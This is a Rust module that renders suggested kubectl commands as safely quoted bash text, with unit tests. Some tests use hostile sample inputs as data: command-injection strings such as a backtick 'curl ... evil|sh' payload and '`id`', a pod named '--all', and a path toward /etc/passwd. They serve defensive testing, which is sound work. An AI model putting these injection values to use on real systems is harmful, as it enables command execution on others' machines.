//! Commands shown to the user, as data: arguments, pipelines and steps, rendered for a POSIX/bash
//! shell by one function, [`render`].
//!
//! Remedies put text the cluster controls (object names, file names from log lines, env values)
//! into commands. Built as argv and quoted here, that text always reaches the program as exactly
//! one argument: a pasted remedy never runs anything the log or the bundle says.
//!
//! Rendering rules:
//! - a word made only of `A-Z a-z 0-9 _ . / : , + @ = -` is written bare (`=` not in the first
//!   word of a command, where bash reads `X=y` as an assignment; shell keywords are quoted there);
//! - a word with a `NAME=` prefix of such characters keeps the prefix bare and quotes the rest
//!   (`JAVA_OPTS='-Xmx192m -XX:+UseG1GC'`);
//! - any other word is single-quoted, a `'` written `'\''`;
//! - a word holding a control character (C0, DEL, C1), a bidi control or another invisible format
//!   character is written with bash's `$'...'` and `\xHH` escapes of its UTF-8 bytes, so a
//!   rendered command is always one visible line and never drives the terminal;
//! - so is a word holding a backtick (written `\x60`): a rendered command never contains one, so
//!   it can sit in a Markdown or Slack code span, whose end a backtick would be, unchanged;
//! - a placeholder the user must fill in is written `<name>`, always quoted (`'<value>'`), so the
//!   shell never reads `<` as a redirection: pasted unchanged, it is only text;
//! - NUL cannot travel in an argument: it is replaced by the visible text `<NUL>` (in
//!   [`Arg::text`], the JSON argv, and the rendered line alike).

use serde::Serialize;
use serde::ser::{SerializeMap, Serializer};

/// What a NUL in a literal becomes: no argument can carry a NUL byte.
pub const NUL_MARK: &str = "<NUL>";

/// A piece of one argument.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Word {
    /// Text passed as it is.
    Lit(String),
    /// A value only the user knows, shown as `<name>` (e.g. `value`, `image:tag`).
    Placeholder(String),
}

/// One argument: literal text and placeholders joined without spaces (`--from-literal=KEY=<value>`).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Arg(pub Vec<Word>);

impl Arg {
    pub fn lit(s: impl Into<String>) -> Self {
        Arg(vec![Word::Lit(s.into())])
    }

    pub fn placeholder(name: impl Into<String>) -> Self {
        Arg(vec![Word::Placeholder(name.into())])
    }

    /// This argument followed by more literal text.
    pub fn then(mut self, s: impl Into<String>) -> Self {
        self.0.push(Word::Lit(s.into()));
        self
    }

    /// This argument followed by a placeholder.
    pub fn then_placeholder(mut self, name: impl Into<String>) -> Self {
        self.0.push(Word::Placeholder(name.into()));
        self
    }

    /// The argument as the program receives it when pasted unchanged: placeholders as `<name>`,
    /// NUL as `<NUL>`.
    pub fn text(&self) -> String {
        let mut out = String::new();
        for w in &self.0 {
            match w {
                Word::Lit(s) => out.push_str(&s.replace('\0', NUL_MARK)),
                Word::Placeholder(p) => {
                    out.push('<');
                    out.push_str(&p.replace('\0', NUL_MARK));
                    out.push('>');
                }
            }
        }
        out
    }

    fn starts_with_dash(&self) -> bool {
        self.text().starts_with('-')
    }
}

impl From<&str> for Arg {
    fn from(s: &str) -> Self {
        Arg::lit(s)
    }
}

impl From<String> for Arg {
    fn from(s: String) -> Self {
        Arg::lit(s)
    }
}

impl From<&String> for Arg {
    fn from(s: &String) -> Self {
        Arg::lit(s.as_str())
    }
}

impl From<Word> for Arg {
    fn from(w: Word) -> Self {
        Arg(vec![w])
    }
}

/// A program and its arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Argv(pub Vec<Arg>);

impl Argv {
    pub fn new(program: impl Into<Arg>) -> Self {
        Argv(vec![program.into()])
    }

    pub fn arg(mut self, a: impl Into<Arg>) -> Self {
        self.0.push(a.into());
        self
    }

    pub fn args<A: Into<Arg>>(mut self, args: impl IntoIterator<Item = A>) -> Self {
        self.0.extend(args.into_iter().map(Into::into));
        self
    }

    /// The arguments as the program receives them (see [`Arg::text`]).
    pub fn texts(&self) -> Vec<String> {
        self.0.iter().map(Arg::text).collect()
    }
}

/// A command line for kubectl-like programs (cobra/clap flags) whose operands may come from
/// outside text. Operands and flags keep the order they were added in, unless an operand starts
/// with `-`: then the flags come first and the operands follow a `--`, so that no name can be
/// read as a flag (a pod named `--all` must not turn `delete pod NAME` into `delete pod --all`).
#[derive(Debug, Clone)]
pub struct Cmd {
    head: Vec<Arg>,
    items: Vec<Item>,
}

#[derive(Debug, Clone)]
enum Item {
    Flag(Vec<Arg>),
    Operand(Arg),
}

impl Cmd {
    /// `program` followed by fixed words (a subcommand): `Cmd::new("kubectl", &["set", "env"])`.
    pub fn new(program: &str, words: &[&str]) -> Self {
        let mut head = vec![Arg::lit(program)];
        head.extend(words.iter().map(|w| Arg::lit(*w)));
        Cmd {
            head,
            items: Vec::new(),
        }
    }

    pub fn kubectl(words: &[&str]) -> Self {
        Cmd::new("kubectl", words)
    }

    /// A positional argument.
    pub fn operand(mut self, a: impl Into<Arg>) -> Self {
        self.items.push(Item::Operand(a.into()));
        self
    }

    /// A flag alone (`--previous`) or with its value in the same word (`--to-revision=3`).
    pub fn flag(mut self, f: impl Into<Arg>) -> Self {
        self.items.push(Item::Flag(vec![f.into()]));
        self
    }

    /// A flag and its value as two words (`-n shop`).
    pub fn flag_value(mut self, f: &str, value: impl Into<Arg>) -> Self {
        self.items.push(Item::Flag(vec![Arg::lit(f), value.into()]));
        self
    }

    pub fn build(self) -> Argv {
        let guard = self
            .items
            .iter()
            .any(|i| matches!(i, Item::Operand(a) if a.starts_with_dash()));
        let mut out = self.head;
        if guard {
            let mut operands = Vec::new();
            for i in self.items {
                match i {
                    Item::Flag(f) => out.extend(f),
                    Item::Operand(a) => operands.push(a),
                }
            }
            out.push(Arg::lit("--"));
            out.extend(operands);
        } else {
            for i in self.items {
                match i {
                    Item::Flag(f) => out.extend(f),
                    Item::Operand(a) => out.push(a),
                }
            }
        }
        Argv(out)
    }
}

impl From<Cmd> for Argv {
    fn from(c: Cmd) -> Self {
        c.build()
    }
}

/// Commands joined by `|`, the last one's stdout optionally sent to a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pipeline {
    pub commands: Vec<Argv>,
    /// A file in the current directory (see [`file_name`]).
    pub stdout: Option<String>,
}

impl Pipeline {
    pub fn of(commands: Vec<Argv>) -> Self {
        Pipeline {
            commands,
            stdout: None,
        }
    }

    /// Sends stdout to `file`, made a plain file name first (see [`file_name`]).
    pub fn to_file(mut self, file: &str) -> Self {
        self.stdout = Some(file_name(file));
        self
    }
}

impl From<Argv> for Pipeline {
    fn from(a: Argv) -> Self {
        Pipeline::of(vec![a])
    }
}

impl From<Cmd> for Pipeline {
    fn from(c: Cmd) -> Self {
        Pipeline::of(vec![c.build()])
    }
}

/// Steps run one after the other, each only if the one before succeeded (`&&`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    pub steps: Vec<Pipeline>,
}

impl Script {
    pub fn new(first: impl Into<Pipeline>) -> Self {
        Script {
            steps: vec![first.into()],
        }
    }

    pub fn and_then(mut self, step: impl Into<Pipeline>) -> Self {
        self.steps.push(step.into());
        self
    }
}

impl From<Argv> for Script {
    fn from(a: Argv) -> Self {
        Script::new(a)
    }
}

impl From<Cmd> for Script {
    fn from(c: Cmd) -> Self {
        Script::new(c)
    }
}

impl From<Pipeline> for Script {
    fn from(p: Pipeline) -> Self {
        Script::new(p)
    }
}

/// The structured form in JSON: one object per step, `{"pipeline": [[argv], ...], "stdout": FILE}`.
impl Serialize for Pipeline {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        let mut m = s.serialize_map(None)?;
        let argvs: Vec<Vec<String>> = self.commands.iter().map(Argv::texts).collect();
        m.serialize_entry("pipeline", &argvs)?;
        if let Some(f) = &self.stdout {
            m.serialize_entry("stdout", f)?;
        }
        m.end()
    }
}

/// The JSON form of a [`Pipeline`] (its `Serialize`), for the schema.
#[derive(schemars::JsonSchema)]
#[allow(dead_code)]
struct PipelineJson {
    /// The argv of each command of the pipeline.
    pipeline: Vec<Vec<String>>,
    /// The file the last command's output is written to.
    #[serde(skip_serializing_if = "Option::is_none")]
    stdout: Option<String>,
}

impl schemars::JsonSchema for Pipeline {
    fn schema_name() -> std::borrow::Cow<'static, str> {
        "Pipeline".into()
    }

    fn json_schema(g: &mut schemars::SchemaGenerator) -> schemars::Schema {
        PipelineJson::json_schema(g)
    }
}

/// A plain file name in the current directory made from outside text: no `/` (no other
/// directory), no NUL or control characters, never `.`, `..` or empty.
pub fn file_name(s: &str) -> String {
    let name: String = s
        .chars()
        .map(|c| {
            if c == '/' || c == '\0' || needs_escape(c) {
                '_'
            } else {
                c
            }
        })
        .collect();
    if name.is_empty() || name == "." || name == ".." {
        format!("_{name}")
    } else {
        name
    }
}

/// The script as one line for a POSIX/bash shell. The one place commands become shell text.
pub fn render(script: &Script) -> String {
    let mut out = String::new();
    for (i, step) in script.steps.iter().enumerate() {
        if i > 0 {
            out.push_str(" && ");
        }
        for (j, argv) in step.commands.iter().enumerate() {
            if j > 0 {
                out.push_str(" | ");
            }
            render_argv(&mut out, argv);
        }
        if let Some(f) = &step.stdout {
            out.push_str(" > ");
            out.push_str(&quote(f, false));
        }
    }
    out
}

fn render_argv(out: &mut String, argv: &Argv) {
    for (i, arg) in argv.0.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        render_arg(out, arg, i == 0);
    }
}

fn render_arg(out: &mut String, arg: &Arg, first: bool) {
    if arg.text().is_empty() {
        out.push_str("''");
        return;
    }
    for w in &arg.0 {
        match w {
            Word::Lit(s) if s.is_empty() => {}
            Word::Lit(s) => out.push_str(&quote(&s.replace('\0', NUL_MARK), first)),
            Word::Placeholder(p) => {
                out.push_str(&quote_always(&format!("<{}>", p.replace('\0', NUL_MARK))))
            }
        }
    }
}

/// Bash words that mean something else as the first word of a command.
const KEYWORDS: [&str; 19] = [
    "if", "then", "else", "elif", "fi", "case", "esac", "for", "select", "while", "until", "do",
    "done", "in", "function", "time", "coproc", "[[", "]]",
];

fn bare_ok(c: char, first: bool) -> bool {
    c.is_ascii_alphanumeric() || "_./:,+@-".contains(c) || (c == '=' && !first)
}

/// Characters that must never reach a terminal raw: C0, DEL, C1, bidi controls and invisible
/// format characters (zero-width, line and paragraph separators, BOM).
fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{00AD}' | '\u{061C}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}' | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFB}')
}

fn quote(s: &str, first: bool) -> String {
    if !s.is_empty() && s.chars().all(|c| bare_ok(c, first)) && !(first && KEYWORDS.contains(&s)) {
        return s.to_string();
    }
    // `NAME=` stays bare before a quoted value, as people write it.
    if !first {
        let unsafe_at = s.find(|c| !bare_ok(c, false)).unwrap_or(s.len());
        if let Some(eq) = s[..unsafe_at].rfind('=') {
            let (head, rest) = s.split_at(eq + 1);
            return format!("{head}{}", quote_always(rest));
        }
    }
    quote_always(s)
}

fn quote_always(s: &str) -> String {
    if s.chars().any(|c| c == '`' || needs_escape(c)) {
        let mut out = String::from("$'");
        for c in s.chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                // Written as escapes so that no history expansion or quote scanner sees them.
                '\'' => out.push_str("\\x27"),
                '!' => out.push_str("\\x21"),
                '`' => out.push_str("\\x60"),
                c if needs_escape(c) => {
                    let mut buf = [0u8; 4];
                    for b in c.encode_utf8(&mut buf).bytes() {
                        out.push_str(&format!("\\x{b:02x}"));
                    }
                }
                c => out.push(c),
            }
        }
        out.push('\'');
        out
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(argv: Argv) -> String {
        render(&Script::from(argv))
    }

    #[test]
    fn plain_words_stay_bare_and_others_are_quoted() {
        let a = Argv::new("kubectl")
            .args(["delete", "pod", "api-1", "-n", "shop"])
            .arg("x;id;.yaml")
            .arg("")
            .arg("it's")
            .arg("JAVA_OPTS=-Xms256m -Xmx192m");
        assert_eq!(
            one(a),
            r#"kubectl delete pod api-1 -n shop 'x;id;.yaml' '' 'it'\''s' JAVA_OPTS='-Xms256m -Xmx192m'"#
        );
    }

    #[test]
    fn placeholders_are_always_quoted() {
        let a = Argv::new("kubectl")
            .arg(Arg::lit("DB_HOST=").then_placeholder("value"))
            .arg(Arg::placeholder("image:tag"));
        assert_eq!(one(a), "kubectl DB_HOST='<value>' '<image:tag>'");
    }

    #[test]
    fn control_characters_are_escaped_on_one_line() {
        let a = Argv::new("kubectl").arg("a\nb\x1b[2J'!\u{202e}\\");
        assert_eq!(one(a), r"kubectl $'a\x0ab\x1b[2J\x27\x21\xe2\x80\xae\\'");
    }

    #[test]
    fn a_backtick_is_never_written_as_one() {
        let a = Argv::new("kubectl")
            .arg("--from-file=x`;curl${IFS}evil|sh;`=./x")
            .arg("`id`");
        let line = one(a);
        assert_eq!(
            line,
            r"kubectl --from-file=$'x\x60;curl${IFS}evil|sh;\x60=./x' $'\x60id\x60'"
        );
        assert!(!line.contains('`'));
    }

    #[test]
    fn nul_becomes_a_visible_mark() {
        let a = Argv::new("kubectl").arg("a\0b");
        assert_eq!(one(a.clone()), "kubectl 'a<NUL>b'");
        assert_eq!(a.texts(), vec!["kubectl", "a<NUL>b"]);
    }

    #[test]
    fn the_first_word_is_never_an_assignment_or_a_keyword() {
        assert_eq!(one(Argv::new("A=b").arg("c=d")), "'A=b' c=d");
        assert_eq!(one(Argv::new("if")), "'if'");
    }

    #[test]
    fn operands_that_look_like_flags_go_after_a_double_dash() {
        let plain = Cmd::kubectl(&["delete", "pod"])
            .operand("api")
            .flag_value("-n", "shop")
            .build();
        assert_eq!(
            plain.texts(),
            ["kubectl", "delete", "pod", "api", "-n", "shop"]
        );
        let hostile = Cmd::kubectl(&["delete", "pod"])
            .operand("--all")
            .flag_value("-n", "shop")
            .build();
        assert_eq!(
            hostile.texts(),
            ["kubectl", "delete", "pod", "-n", "shop", "--", "--all"]
        );
    }

    #[test]
    fn pipelines_steps_and_redirects() {
        let s = Script::new(
            Pipeline::of(vec![
                Argv::new("kubectl").args(["get", "pod", "a b"]),
                Argv::new("jq").arg("."),
            ])
            .to_file("../etc/a b.yaml"),
        )
        .and_then(Argv::new("kubectl").args(["apply", "-f", "x"]));
        assert_eq!(
            render(&s),
            "kubectl get pod 'a b' | jq . > '.._etc_a b.yaml' && kubectl apply -f x"
        );
    }

    #[test]
    fn file_names_stay_in_the_current_directory() {
        assert_eq!(file_name(".."), "_..");
        assert_eq!(file_name(""), "_");
        assert_eq!(file_name("/etc/passwd"), "_etc_passwd");
        assert_eq!(file_name("a\nb"), "a_b");
    }
}
